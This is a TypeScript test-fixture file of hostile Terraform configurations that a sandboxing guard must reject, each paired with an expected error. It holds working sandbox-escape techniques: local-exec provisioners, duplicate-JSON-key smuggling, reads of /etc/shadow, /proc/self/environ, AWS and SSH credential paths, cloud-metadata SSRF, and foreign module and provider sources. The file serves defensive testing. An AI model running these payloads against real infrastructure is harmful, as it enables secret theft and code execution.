/**
 * Hostile POST /infra configurations, by class. Each says why it must be refused (a pattern the
 * 400's message must match). Markers: a local-exec that ran would leave a file named
 * MARK_PREFIX-* in the temp dir.
 */
import { tmpdir } from 'node:os';
import path from 'node:path';

export const MARK_PREFIX = path.join(tmpdir(), `infraai-guard-pwned-${process.pid}`);
export const OTHER_SECRET = 'other-deployment-db-password-55170';

export type InfraPayload = [cls: string, name: string, files: Record<string, string>, why: RegExp];

let n = 0;
const mark = () => `${MARK_PREFIX}-${(n += 1)}`;
const exec = () => `touch ${mark()}`;
const R = (body: string) => `resource "terraform_data" "a" {\n${body}\n}\n`;
const J = (doc: unknown) => ({ 'main.tf.json': JSON.stringify(doc) });
const OTHER = '../other/terraform.tfvars';

const EXPLOITS: InfraPayload[] = [
  [
    'exploit reproductions',
    'repeated "resource" key smuggling a local-exec',
    {
      'main.tf.json': `{"resource":{"terraform_data":{"evil":{"provisioner":{"local-exec":{"command":"env > ${mark()}"}}}}},\n "resource":{"terraform_data":{"harmless":{"input":"x"}}}}`,
    },
    /key "resource" in "\$" repeats/,
  ],
  [
    'exploit reproductions',
    'repeated "provisioner" key inside one resource',
    {
      'main.tf.json': `{"resource":{"terraform_data":{"a":{"provisioner":{"local-exec":{"command":"${exec()}"}},"input":"x","provisioner":{"local-exec":{"command":"true"}}}}}}`,
    },
    /key "provisioner" in .* repeats/,
  ],
  [
    'exploit reproductions',
    'filebase64 /*c*/ ("/proc/self/environ")',
    { 'main.tf': R('  input = filebase64 /*c*/ ("/proc/self/environ")') },
    /function "filebase64" is not allowed/,
  ],
  [
    'exploit reproductions',
    "file() of another deployment's tfvars (relative)",
    { 'main.tf': R(`  input = file("${OTHER}")`) },
    /function "file" is not allowed/,
  ],
  [
    'exploit reproductions',
    "file() of another deployment's tfvars (path.module)",
    { 'main.tf': R(`  input = file("\${path.module}/${OTHER}")`) },
    /function "file" is not allowed/,
  ],
  [
    'exploit reproductions',
    'terraform_remote_state with a path from a variable',
    {
      'main.tf':
        'variable "p" {}\ndata "terraform_remote_state" "r" {\n  backend = "local"\n  config = { path = var.p }\n}\n',
      'terraform.tfvars': 'p = "../other/terraform.tfstate"\n',
    },
    /"terraform_remote_state" is never allowed/,
  ],
  [
    'exploit reproductions',
    'module source git::file://',
    { 'main.tf': 'module "m" {\n  source = "git::file:///etc"\n}\n' },
    /module source "git::file:\/\/\/etc" is not allowed/,
  ],
  [
    'exploit reproductions',
    'module source file://',
    { 'main.tf': 'module "m" {\n  source = "file:///srv/terraform-runs/other"\n}\n' },
    /module source "file:/,
  ],
];

const DUPLICATES: InfraPayload[] = [
  [
    'repeated JSON keys',
    'escaped "\\u0072esource"',
    { 'main.tf.json': '{"resource":{"terraform_data":{"a":{}}},"\\u0072esource":{"terraform_data":{"b":{}}}}' },
    /repeats/,
  ],
  [
    'repeated JSON keys',
    'fully escaped key',
    { 'main.tf.json': '{"resource":{},"\\u0072\\u0065\\u0073\\u006f\\u0075\\u0072\\u0063\\u0065":{}}' },
    /repeats/,
  ],
  [
    'repeated JSON keys',
    'whitespace and newlines around the key',
    { 'main.tf.json': '{\n  "resource" : {},\n\t"resource"\r\n:\n{}\n}' },
    /repeats/,
  ],
  [
    'repeated JSON keys',
    'repeated resource name',
    { 'main.tf.json': '{"resource":{"terraform_data":{"a":{"input":"1"},"a":{"input":"2"}}}}' },
    /key "a" .* repeats/,
  ],
  [
    'repeated JSON keys',
    'repeated type key',
    { 'main.tf.json': '{"resource":{"terraform_data":{"a":{}},"terraform_data":{"b":{}}}}' },
    /key "terraform_data" .* repeats/,
  ],
  [
    'repeated JSON keys',
    'repeated attribute deep inside',
    { 'main.tf.json': '{"resource":{"terraform_data":{"a":{"input":{"k":{"j":1,"j":2}}}}}}' },
    /key "j" .* repeats/,
  ],
  [
    'repeated JSON keys',
    'repeated "terraform" block key (backend smuggling)',
    { 'main.tf.json': '{"terraform":{"backend":{"local":{"path":"/tmp/x"}}},"terraform":{"required_version":">= 1"}}' },
    /key "terraform" .* repeats/,
  ],
  [
    'repeated JSON keys',
    'repeated "module" key',
    { 'main.tf.json': '{"module":{"m":{"source":"git::file:///etc"}},"module":{}}' },
    /key "module" .* repeats/,
  ],
  [
    'repeated JSON keys',
    'case-folded key',
    { 'main.tf.json': '{"resource":{"terraform_data":{"a":{"Provisioner":{},"provisioner":{}}}}}' },
    /same key as/,
  ],
  [
    'repeated JSON keys',
    'NFC-equal keys',
    { 'main.tf.json': '{"locals":{"caf\\u00e9":1,"cafe\\u0301":2}}' },
    /same key as/,
  ],
  [
    'repeated JSON keys',
    'repeated key in tfvars JSON',
    { 'main.tf': 'variable "n" {}\n', 'terraform.tfvars.json': '{"n":1,"n":2}' },
    /key "n" .* repeats/,
  ],
  [
    'repeated JSON keys',
    'lone surrogate keys Go decodes alike',
    { 'main.tf.json': '{"locals":{"\\ud800":1,"\\udbff":2}}' },
    /lone surrogate/,
  ],
  [
    'repeated JSON keys',
    'a comment hiding a second object',
    { 'main.tf.json': '{"locals":{}} /* {"resource":{}} */' },
    /after the JSON value/,
  ],
];

const PROVISIONERS: InfraPayload[] = [
  [
    'provisioners and connections',
    'local-exec',
    { 'main.tf': R(`  provisioner "local-exec" {\n    command = "${exec()}"\n  }`) },
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'destroy-time local-exec',
    { 'main.tf': R(`  provisioner "local-exec" {\n    when = destroy\n    command = "${exec()}"\n  }`) },
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'remote-exec with a connection',
    {
      'main.tf': R(
        '  connection {\n    host = "127.0.0.1"\n  }\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }',
      ),
    },
    /(provisioner|connection) blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'file provisioner',
    { 'main.tf': R('  provisioner "file" {\n    source = "/etc/passwd"\n    destination = "/tmp/x"\n  }') },
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'dynamic provisioner',
    {
      'main.tf': R(
        `  dynamic "provisioner" {\n    for_each = ["x"]\n    content {\n      command = "${exec()}"\n    }\n  }`,
      ),
    },
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'a local module (its files cannot be submitted, so it is never read)',
    { 'main.tf': 'module "m" {\n  source = "./m"\n}\n', 'mod.tf': 'locals {}\n' },
    /module "m" source "\.\/m" names a directory/,
  ],
  [
    'provisioners and connections',
    'JSON object form',
    J({ resource: { terraform_data: { a: { provisioner: { 'local-exec': { command: exec() } } } } } }),
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'JSON array form',
    J({ resource: [{ terraform_data: [{ a: [{ provisioner: [{ 'local-exec': [{ command: exec() }] }] }] }] }] }),
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'JSON upper case',
    J({ resource: { terraform_data: { a: { PROVISIONER: { 'local-exec': { command: exec() } } } } } }),
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'JSON dynamic provisioner',
    J({
      resource: {
        terraform_data: { a: { dynamic: { provisioner: { for_each: ['x'], content: { command: exec() } } } } },
      },
    }),
    /provisioner blocks are not allowed/,
  ],
  [
    'provisioners and connections',
    'removed block carrying a provisioner',
    {
      'main.tf': `removed {\n  from = terraform_data.gone\n  provisioner "local-exec" {\n    when = destroy\n    command = "${exec()}"\n  }\n}\n`,
    },
    /block type "removed" is not allowed/,
  ],
  [
    'provisioners and connections',
    'override file adding a provisioner',
    {
      'main.tf': R('  input = "x"'),
      'main_override.tf': R(`  provisioner "local-exec" {\n    command = "${exec()}"\n  }`),
    },
    /override files are not allowed/,
  ],
];

const fn = (name: string, attr: string): InfraPayload => [
  'filesystem and other refused functions',
  name,
  { 'main.tf': R(`  input = ${attr}`) },
  /function "[\w:]+" is not allowed/,
];
const FUNCTIONS: InfraPayload[] = [
  fn('file', 'file("/etc/passwd")'),
  fn('file /**/ (', 'file/**/("/etc/passwd")'),
  fn('file # newline (', 'file #c\n("/etc/passwd")'),
  fn('file // newline (', 'file //c\n("/etc/passwd")'),
  fn('file /* multi-line */ (', 'file /*\n*/ ("/etc/passwd")'),
  fn('nested in a template', '"${upper(file("/etc/hostname"))}"'),
  fn('in a heredoc', '<<EOT\n${file("/etc/hostname")}\nEOT'),
  fn('in an indented heredoc', '<<-EOT\n  ${filebase64("/etc/hostname")}\n  EOT'),
  fn('in a template directive', '"%{ for l in split("\\n", file("/etc/passwd")) }${l}%{ endfor }"'),
  fn('templatefile', 'templatefile("/etc/passwd", {})'),
  fn('fileset', 'fileset("/", "etc/*")'),
  fn('fileexists', 'fileexists("/home/ops/.ssh/id_rsa")'),
  fn('filemd5', 'filemd5("/etc/shadow")'),
  fn('filebase64sha512', 'filebase64sha512("/etc/shadow")'),
  fn('abspath', 'abspath(".")'),
  fn('pathexpand', 'pathexpand("~/.aws/credentials")'),
  fn('basename', 'basename("/x")'),
  fn('provider-defined function', 'provider::terraform::decode_tfvars("a = 1")'),
  fn('templatestring', 'templatestring("x", {})'),
  fn('nonsensitive', 'nonsensitive(sensitive("x"))'),
  fn('inside try()', 'try(file("/etc/passwd"), "")'),
  fn('inside a for expression', '[for f in fileset("/etc", "*") : f]'),
  [
    'filesystem and other refused functions',
    'in count',
    { 'main.tf': R('  count = length(file("/etc/passwd")) > 0 ? 1 : 0') },
    /function "file" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'in a variable validation',
    {
      'main.tf':
        'variable "v" {\n  validation {\n    condition = fileexists("/etc/passwd")\n    error_message = "x"\n  }\n}\n',
      'terraform.tfvars': 'v = 1\n',
    },
    /function "fileexists" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'in an output',
    { 'main.tf': 'output "o" {\n  value = file("/etc/passwd")\n}\n' },
    /function "file" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'JSON template',
    J({ output: { o: { value: '${file("/etc/passwd")}' } } }),
    /function "file" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'JSON template with a comment',
    J({ locals: { x: '${filebase64 /* c */ ("/proc/self/environ")}' } }),
    /function "filebase64" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'JSON \\u-escaped template',
    { 'main.tf.json': '{"locals":{"x":"\\u0024{file(\\"/etc/passwd\\")}"}}' },
    /function "file" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'JSON object key template',
    J({ locals: { x: { '${file("/etc/passwd")}': 1 } } }),
    /function "file" is not allowed/,
  ],
  [
    'filesystem and other refused functions',
    'path.cwd',
    { 'main.tf': R('  input = path.cwd') },
    /"path\.cwd" is not allowed/,
  ],
];

const TYPES_AND_BLOCKS: InfraPayload[] = [
  [
    'data sources and resource types',
    'external',
    { 'main.tf': 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' },
    /"external" is never allowed/,
  ],
  [
    'data sources and resource types',
    'http data source',
    { 'main.tf': 'data "http" "x" {\n  url = "http://169.254.169.254/latest/meta-data/"\n}\n' },
    /data source type "http" is not allowed/,
  ],
  [
    'data sources and resource types',
    'JSON terraform_remote_state',
    J({ data: { terraform_remote_state: { r: { backend: 'local', config: { path: OTHER } } } } }),
    /"terraform_remote_state" is never allowed/,
  ],
  [
    'data sources and resource types',
    'local_file',
    { 'main.tf': 'resource "local_file" "f" {\n  filename = "/etc/profile"\n  content = "x"\n}\n' },
    /"local_file" is never allowed/,
  ],
  [
    'data sources and resource types',
    'null_resource',
    { 'main.tf': 'resource "null_resource" "n" {}\n' },
    /resource type "null_resource" is not allowed/,
  ],
  [
    'data sources and resource types',
    'check block with a scoped data source',
    {
      'main.tf':
        'check "c" {\n  data "http" "x" {\n    url = "http://127.0.0.1"\n  }\n  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n',
    },
    /block type "check" is not allowed/,
  ],
  [
    'data sources and resource types',
    'ephemeral block',
    { 'main.tf': 'ephemeral "random_password" "p" {}\n' },
    /block type "ephemeral" is not allowed/,
  ],
  [
    'data sources and resource types',
    'import block',
    { 'main.tf': 'import {\n  to = terraform_data.a\n  id = "x"\n}\n' },
    /block type "import" is not allowed/,
  ],
  [
    'backends and terraform settings',
    'local backend escaping',
    { 'main.tf': 'terraform {\n  backend "local" {\n    path = "../other/terraform.tfstate"\n  }\n}\n' },
    /terraform \{ backend \} is not allowed/,
  ],
  [
    'backends and terraform settings',
    'http backend',
    { 'main.tf': 'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:1"\n  }\n}\n' },
    /terraform \{ backend \}/,
  ],
  [
    'backends and terraform settings',
    'cloud block',
    { 'main.tf': 'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n' },
    /terraform \{ cloud \}/,
  ],
  [
    'backends and terraform settings',
    'JSON backend',
    J({ terraform: { backend: { local: { path: '/tmp/state' } } } }),
    /terraform \{ backend \}/,
  ],
  [
    'backends and terraform settings',
    'a provider from elsewhere',
    { 'main.tf': 'terraform {\n  required_providers {\n    evil = { source = "evil.example/x/evil" }\n  }\n}\n' },
    /provider "evil" is not allowed/,
  ],
  [
    'backends and terraform settings',
    'a provider block',
    { 'main.tf': 'provider "google" {\n  credentials = file("/etc/gcp.json")\n}\n' },
    /provider "google" is not allowed/,
  ],
];

const src = (s: string): InfraPayload => [
  'module sources',
  s,
  { 'main.tf': `module "m" {\n  source = "${s}"\n}\n` },
  /module (source|"m")/,
];
const MODULES: InfraPayload[] = [
  src('github.com/evil/module'),
  src('hashicorp/consul/aws'),
  src('https://example.com/m.zip'),
  src('s3::https://bucket/m.zip'),
  src('git::https://example.com/m.git'),
  src('/etc'),
  src('../other'),
  src('../../'),
  src('./m//sub'),
  src('./m?ref=x'),
  src('./.terraform'),
  src('./'),
  src('./missing'),
  src('hg::http://x'),
  [
    'module sources',
    'source from a variable',
    { 'main.tf': 'module "m" {\n  source = var.s\n}\n' },
    /needs a literal string source/,
  ],
  [
    'module sources',
    'version pinning (registry only)',
    { 'main.tf': 'module "m" {\n  source = "./m"\n  version = "1.0"\n}\n' },
    /"version" is only for registry modules/,
  ],
];

const TFVARS: InfraPayload[] = [
  [
    'tfvars with expressions',
    'a function call',
    { 'main.tf': 'variable "v" {}\n', 'terraform.tfvars': 'v = file("/etc/passwd")\n' },
    /only literal values are allowed in a tfvars file/,
  ],
  [
    'tfvars with expressions',
    'a commented call',
    { 'main.tf': 'variable "v" {}\n', 'terraform.tfvars': 'v = filebase64 /* c */ ("/proc/self/environ")\n' },
    /only literal values/,
  ],
  [
    'tfvars with expressions',
    'an interpolation',
    { 'main.tf': 'variable "v" {}\n', 'terraform.tfvars': 'v = "${file("/etc/passwd")}"\n' },
    /only literal values/,
  ],
  [
    'tfvars with expressions',
    'a reference',
    { 'main.tf': 'variable "v" {}\n', 'terraform.tfvars': 'v = path.cwd\n' },
    /only literal values/,
  ],
  [
    'tfvars with expressions',
    'a JSON template',
    { 'main.tf': 'variable "v" {}\n', 'terraform.tfvars.json': '{"v":"${file(\\"/etc/passwd\\")}"}' },
    /only literal values/,
  ],
  [
    'tfvars with expressions',
    'an auto.tfvars heredoc interpolation',
    { 'main.tf': 'variable "v" {}\n', 'x.auto.tfvars': 'v = <<EOT\n${file("/etc/passwd")}\nEOT\n' },
    /only literal values/,
  ],
  [
    'tfvars with expressions',
    'a variable left to the environment',
    { 'main.tf': 'variable "api_token" {\n  default = "x"\n}\n' },
    /TF_VAR_api_token/,
  ],
];

const SYNTAX: InfraPayload[] = [
  [
    'syntax both readers must read fully',
    'unclosed block',
    { 'main.tf': 'resource "terraform_data" "a" {\n' },
    /invalid HCL/,
  ],
  [
    'syntax both readers must read fully',
    'stray closing brace',
    { 'main.tf': 'locals {}\n}\nresource "terraform_data" "b" {}\n' },
    /invalid HCL/,
  ],
  [
    'syntax both readers must read fully',
    'call split by a newline',
    { 'main.tf': 'locals {\n  a = upper\n  ("x")\n}\n' },
    /HashiCorp's HCL parser refused/,
  ],
  [
    'syntax both readers must read fully',
    'invalid escape',
    { 'main.tf': 'locals {\n  a = "\\$${x}"\n}\n' },
    /invalid HCL|HashiCorp/,
  ],
  [
    'syntax both readers must read fully',
    'JSON with a trailing comma',
    { 'main.tf.json': '{"locals":{"a":1,}}' },
    /trailing comma/,
  ],
  [
    'syntax both readers must read fully',
    'JSON with a BOM',
    { 'main.tf.json': '\ufeff{"locals":{}}' },
    /unexpected character/,
  ],
  [
    'syntax both readers must read fully',
    'a shell script among the files',
    { 'main.tf': 'locals {}\n', 'x.tfvars': 'a = 1\n', 'y.tf': '#!/bin/sh\nid\n' },
    /invalid HCL/,
  ],
  [
    'syntax both readers must read fully',
    'a top-level argument',
    { 'main.tf': 'a = file("/etc/passwd")\n' },
    /top-level argument "a" is not allowed/,
  ],
];

export const INFRA_PAYLOADS: InfraPayload[] = [
  ...EXPLOITS,
  ...DUPLICATES,
  ...PROVISIONERS,
  ...FUNCTIONS,
  ...TYPES_AND_BLOCKS,
  ...MODULES,
  ...TFVARS,
  ...SYNTAX,
];
